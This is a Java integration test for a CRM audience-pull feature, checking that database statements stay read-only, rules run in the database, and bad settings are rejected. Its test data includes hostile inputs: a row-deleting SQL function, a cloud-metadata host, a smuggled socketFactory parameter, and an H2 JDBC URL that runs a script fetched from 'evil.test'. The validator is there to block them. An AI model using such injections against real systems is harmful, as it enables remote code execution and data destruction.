package dev.rekindle.segment.source.pull;

import static org.assertj.core.api.Assertions.assertThat;

import dev.rekindle.member.Members;
import dev.rekindle.member.StoreContext;
import dev.rekindle.member.intake.FieldRules;
import dev.rekindle.segment.source.Audience;
import dev.rekindle.segment.source.AudienceColumns;
import dev.rekindle.segment.source.AudienceField;
import dev.rekindle.segment.source.AudiencePull;
import dev.rekindle.segment.source.AudienceSettings;
import dev.rekindle.segment.source.SourceProblem;
import dev.rekindle.segment.source.jdbc.JdbcAudienceFixture;
import dev.rekindle.setting.Live;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import javax.sql.DataSource;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.test.context.junit.jupiter.SpringJUnitConfig;

/** What a database is asked for: a statement that only reads, or a rule, in pages of two rows. */
@SpringJUnitConfig(StoreContext.class)
class DatabaseAudienceIT {

    private static final CrmDatabase CRM = new CrmDatabase();

    private static final Live<AudienceSettings> SETTINGS =
            AudienceWorld.settings(Map.of("page-size", "2", "allow-private", "localhost", "attempts", "3"));

    @Autowired
    DataSource database;

    @Autowired
    Members members;

    @Autowired
    FieldRules rules;

    private AudienceWorld world;

    @BeforeEach
    void start() {
        CRM.reset();
        world = new AudienceWorld(database, members, rules, SETTINGS, List.of(JdbcAudienceFixture.source(SETTINGS)));
    }

    @AfterEach
    void clear() {
        world.clear();
    }

    private void save(Audience audience) {
        assertThat(world.audiences.problem(audience, CRM.secrets())).isEmpty();
        world.audiences.save(audience, CRM.secrets());
    }

    private void fivePeople() {
        for (int i = 1; i <= 5; i++) {
            world.member("c" + i, null, null);
            CRM.person(i, "c" + i, null, null);
        }
    }

    @Test
    void aStatementOnlyReadsAndItsKeyIsUniqueAndNeverNull() {
        fivePeople();
        save(AudienceWorld.audience(
                "vip",
                "jdbc",
                CRM.statement(
                        "select id, customer as c, customer, mail, phone, city from person union all select 3, 'c', 'c', null, null, null"),
                CrmDatabase.columns()));
        assertThat(world.pull("vip"))
                .extracting(AudiencePull::failure, AudiencePull::detail)
                .containsExactly("key-twice", "3");
        save(AudienceWorld.audience(
                "vip",
                "jdbc",
                CRM.statement("select nullif(id, 4) as id, customer, mail, phone, city from person"),
                CrmDatabase.columns()));
        assertThat(world.pull("vip"))
                .extracting(AudiencePull::failure, AudiencePull::detail)
                .containsExactly("null-key", "1");
        CRM.jdbc()
                .sql("create or replace function harm() returns int language sql as 'delete from person returning 1'")
                .update();
        save(AudienceWorld.audience(
                "vip",
                "jdbc",
                CRM.statement("select id, customer, mail, phone, city, harm() from person"),
                CrmDatabase.columns()));
        AudiencePull harm = world.pull("vip");
        assertThat(harm.failure()).isEqualTo("statement");
        assertThat(harm.detail()).contains("read-only transaction");
        assertThat(CRM.jdbc()
                        .sql("select count(*) from person")
                        .query(Long.class)
                        .single())
                .isEqualTo(5);
        save(AudienceWorld.audience(
                "vip",
                "jdbc",
                CRM.statement("select id, customer, mail, phone, city from nothing"),
                CrmDatabase.columns()));
        assertThat(world.pull("vip").detail()).contains("\"nothing\" does not exist");
    }

    @Test
    void aRuleIsRunInTheDatabaseAndOnlyIdsComeOver() {
        fivePeople();
        CRM.jdbc()
                .sql("update person set city = 'Bristol', mail = null where id in (2, 3)")
                .update();
        CRM.jdbc().sql("update person set city = null where id = 4").update();
        Map<String, String> settings = new HashMap<>(CRM.statement("select * from person"));
        settings.put("ruleColumns", "town = city\nsince = changed_at\nactive");
        settings.put("rule", """
                {"all": [{"attribute": "active", "is": true},
                         {"attribute": "since", "before": "2026-11-21"},
                         {"attribute": "since", "inDays": {"atLeast": -30, "atMost": 0}},
                         {"not": {"attribute": "town", "startsWith": "BRIS"}}]}
                """);
        var ids = new AudienceColumns(Map.of(AudienceField.EXTERNAL_ID, "customer"), Map.of());
        save(AudienceWorld.audience("vip", "jdbc", settings, ids));
        assertThat(world.pull("vip").rows()).isEqualTo(3);
        assertThat(world.membersOf("vip")).as("an unknown town is not Bristol").containsExactly("c1", "c4", "c5");
        assertThat(world.audiences
                        .look(AudienceWorld.audience("vip", "jdbc", settings, ids), CRM.secrets())
                        .columns())
                .containsExactly("id", "customer");

        settings.put("rule", "{\"tag\": \"vip\"}");
        assertThat(problem(settings)).isEqualTo("rule rule-condition");
        settings.put("rule", "{\"attribute\": \"tier\", \"oneOf\": [\"gold\"]}");
        assertThat(problem(settings)).isEqualTo("rule rule-column");
        settings.put("rule", "{\"attribut\": 1}");
        assertThat(problem(settings)).isEqualTo("rule rule");
    }

    @Test
    void whatIsTypedWrongIsToldAtItsField() {
        save(CRM.vip());
        assertThat(problem(CRM.statement("delete from person"))).isEqualTo("statement not-a-select");
        assertThat(problem(CRM.statement("select 1; select 2"))).isEqualTo("statement semicolon");
        Map<String, String> elsewhere = new HashMap<>(CRM.statement("select 1 as id"));
        elsewhere.put("host", "metadata.internal");
        assertThat(world.audiences
                        .problem(AudienceWorld.audience("vip", "jdbc", elsewhere, CrmDatabase.columns()), Map.of())
                        .orElseThrow())
                .as("a stored password goes where it was typed for")
                .isEqualTo(SourceProblem.of("password", "secret-again"));
        assertThat(world.audiences
                        .problem(AudienceWorld.audience("vip", "jdbc", elsewhere, CrmDatabase.columns()), CRM.secrets())
                        .orElseThrow()
                        .code())
                .isEqualTo("host-not-allowed");
        elsewhere.put("host", "localhost/x?socketFactory=evil#");
        assertThat(world.audiences
                        .problem(AudienceWorld.audience("vip", "jdbc", elsewhere, CrmDatabase.columns()), CRM.secrets())
                        .orElseThrow()
                        .code())
                .isEqualTo("host");
        elsewhere.put("database", "OTHER");
        elsewhere.put("address", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.test/x.sql'");
        assertThat(world.audiences
                        .problem(AudienceWorld.audience("vip", "jdbc", elsewhere, CrmDatabase.columns()), CRM.secrets())
                        .orElseThrow())
                .isEqualTo(SourceProblem.of("address", "address"));
        assertThat(world.audiences
                        .problem(
                                AudienceWorld.audience(
                                        "vip",
                                        "jdbc",
                                        CRM.statement("select 1 as id"),
                                        new AudienceColumns(Map.of(AudienceField.TIER, "t"), Map.of())),
                                CRM.secrets())
                        .orElseThrow()
                        .code())
                .isEqualTo("no-identity");
    }

    private String problem(Map<String, String> settings) {
        return world.audiences
                .problem(AudienceWorld.audience("vip", "jdbc", settings, CrmDatabase.columns()), CRM.secrets())
                .map(problem -> problem.field() + " " + problem.code())
                .orElse("");
    }
}
